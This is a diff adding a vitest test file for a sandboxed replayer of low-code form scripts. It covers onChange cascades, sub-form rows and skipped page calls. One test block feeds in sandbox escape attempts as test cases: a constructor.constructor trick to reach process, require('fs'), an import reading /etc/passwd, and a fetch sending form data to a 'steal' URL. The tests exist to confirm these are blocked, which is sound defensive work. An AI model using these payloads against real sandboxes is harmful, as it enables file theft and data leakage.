@@ -1,0 +1,124 @@
+import { loadFormJson } from '@tandem/form-core'
+import { describe, expect, it } from 'vitest'
+import { replayForm } from './replayForm.js'
+import type { ReplayResult } from './replayTypes.js'
+
+const LIMITS = { memoryBytes: 64 * 1024 * 1024, timeBudgetMs: 200 }
+
+const input = (name: string, label: string, options: Record<string, unknown> = {}) => ({ type: 'input', id: name, options: { name, label, ...options } })
+const replay = (formConfig: Record<string, unknown>, widgetList: unknown[], data: Record<string, unknown>) =>
+  replayForm(loadFormJson({ formConfig, widgetList }), data, LIMITS)
+
+function succeeded(result: ReplayResult) {
+  if (!result.ok) throw new Error(`replay failed: ${JSON.stringify(result.failure)}`)
+  return result
+}
+
+describe('replayForm', () => {
+  it('hides what onFormMounted hides, and onChange shows and requires it again as the user fills', async () => {
+    const form = { onFormMounted: "this.getWidgetRef('yi').setHidden(true)" }
+    const fields = [
+      input('jia', '甲', { required: true, onChange: "if (value === '显示') { this.getWidgetRef('yi').setHidden(false); this.getWidgetRef('yi').setRequired(true) }" }),
+      input('yi', '乙'),
+    ]
+    expect(succeeded(await replay(form, fields, { jia: '一' })).states).toMatchObject({ jia: { hidden: false }, yi: { hidden: true } })
+    const shown = succeeded(await replay(form, fields, { jia: '显示' }))
+    expect(shown.states.yi).toMatchObject({ hidden: false, options: { required: true, label: '乙' } })
+  })
+
+  it('runs onChange with (value, oldValue), cascades values scripts set and keeps them on fields the user cannot edit', async () => {
+    const fields = [
+      input('price', '单价', { onChange: "this.getFormRef().setFieldValue('total', value * 2); this.getFormRef().setFieldValue('seen', String(oldValue))" }),
+      input('total', '合计', { disabled: true, onChange: "this.getWidgetRef('note').setValue('合计 ' + value)" }),
+      input('seen', '旧值'),
+      input('note', '备注'),
+    ]
+    const result = succeeded(await replay({}, fields, { price: 3, total: 999, seen: '', note: '' }))
+    // total is disabled: the script's 6 stands, not the client's 999; seen and note are editable, so the submitted '' wins
+    expect(result.data).toEqual({ price: 3, total: 6, seen: '', note: '' })
+  })
+
+  it('gives sub-form rows their onChange with subFormData and rowId, and this.subFormRowIndex', async () => {
+    const subForm = {
+      type: 'sub-form',
+      id: 'items',
+      options: { name: 'items', label: '明细' },
+      widgetList: [
+        input('qty', '数量', { onChange: 'this.getWidgetRef(\'remark@row\' + rowId).setRequired(value > 5 && subFormData.length === 2 && this.subFormRowIndex === 1)' }),
+        input('remark', '说明'),
+      ],
+    }
+    const result = succeeded(await replay({}, [subForm], { items: [{ qty: 1, remark: '' }, { qty: 9, remark: '' }] }))
+    expect(result.states['items.0.remark']).toEqual({ hidden: false })
+    expect(result.states['items.1.remark']).toMatchObject({ hidden: false, options: { required: true } })
+  })
+
+  it('reads formDataModel, formJsonObj, widgetRefList and the form functions', async () => {
+    const form = {
+      functions: 'function flag(v) { return v === "是" }',
+      onFormMounted: [
+        "this.formDataModel.b = this.formJsonObj.widgetList.length + ':' + Object.keys(this.widgetRefList).join(',')",
+        "if (flag(this.formDataModel.a)) this.hideWidgets('c')",
+      ].join('\n'),
+    }
+    const result = succeeded(await replay(form, [input('a', 'A', { defaultValue: '是' }), input('b', 'B'), input('c', 'C')], {}))
+    expect(result.data.b).toBe('3:v_form_ref,a,b,c')
+    expect(result.states.c.hidden).toBe(true)
+  })
+
+  it('records page members as skipped calls and runs on past them', async () => {
+    const form = {
+      onFormMounted: [
+        "this.$message.warning('x')",
+        "this.executeDataSource('ds').then(() => this.hideWidgets('a'))",
+        "axios.get('/x').then(() => this.hideWidgets('a'))",
+        "document.getElementById('a').style.color = 'red'",
+        "this.$nextTick(() => this.setFieldValue('a', 'after tick'))",
+      ].join('\n'),
+    }
+    const result = succeeded(await replay(form, [input('a', 'A')], {}))
+    expect(result.states.a.hidden).toBe(false)
+    expect(result.data.a).toBe('after tick')
+    expect(result.uses[0].skippedCalls).toEqual(['$message.warning', 'executeDataSource', 'axios.get', 'document.getElementById', '$nextTick'])
+  })
+
+  describe('escape attempts end the replay naming the script', () => {
+    const attempts: Array<[string, string, 'error' | 'timeout' | 'memory', RegExp]> = [
+      ['while(true){}', 'while (true) {}', 'timeout', /interrupted/],
+      ['unbounded allocation', 'const a = []; for (;;) a.push(new Array(100000).fill(1))', 'memory', /out of memory/],
+      ['unbounded recursion', 'function f() { return f() + 1 } f()', 'error', /stack overflow|call stack/i],
+      ['globalThis', 'globalThis.process.exit(1)', 'error', /TypeError/],
+      ['process', 'process.exit(1)', 'error', /ReferenceError: '?process'? is not defined/],
+      ['require', "require('fs')", 'error', /ReferenceError: '?require'? is not defined/],
+      ['import()', "return import('fs').then((fs) => fs.readFileSync('/etc/passwd'))", 'error', /fs/],
+      ['constructor.constructor', "this.constructor.constructor('return process')().exit(1)", 'error', /ReferenceError: '?process'? is not defined/],
+      ['throwing a string', "throw 'stop'", 'error', /throw "stop"/],
+      ['throwing an object', 'throw { code: 7 }', 'error', /throw \{"code":7\}/],
+      ['throwing null', 'throw null', 'error', /throw null/],
+    ]
+    for (const [name, body, kind, detail] of attempts) {
+      it(name, async () => {
+        const started = performance.now()
+        const result = await replay({}, [input('a', 'A', { onChange: body })], { a: 'x' })
+        expect(result.ok).toBe(false)
+        if (result.ok) return
+        expect(result.failure).toMatchObject({ owner: 'a', hook: 'onChange' })
+        if (kind !== 'memory') expect(result.failure.kind).toBe(kind)
+        else expect(['memory', 'timeout']).toContain(result.failure.kind)
+        if (kind !== 'memory') expect(result.failure.detail).toMatch(detail)
+        expect(performance.now() - started).toBeLessThan(60_000)
+      })
+    }
+
+    it('fetch is a skipped call, not a request', async () => {
+      const result = succeeded(await replay({}, [input('a', 'A', { onChange: "fetch('http://127.0.0.1:1/steal?d=' + value)" })], { a: 'x' }))
+      expect(result.uses[0].skippedCalls).toEqual(['fetch'])
+    })
+  })
+
+  it('keeps nothing between replays: globals a script sets are gone at the next save', async () => {
+    const fields = [input('a', 'A', { onChange: 'globalThis.seen = (globalThis.seen || []).concat(value); this.getFormRef().setFieldValue("b", globalThis.seen.join())' }), input('b', 'B', { disabled: true })]
+    expect(succeeded(await replay({}, fields, { a: '第一次的数据' })).data.b).toBe('第一次的数据')
+    expect(succeeded(await replay({}, fields, { a: '第二次' })).data.b).toBe('第二次')
+  })
+})
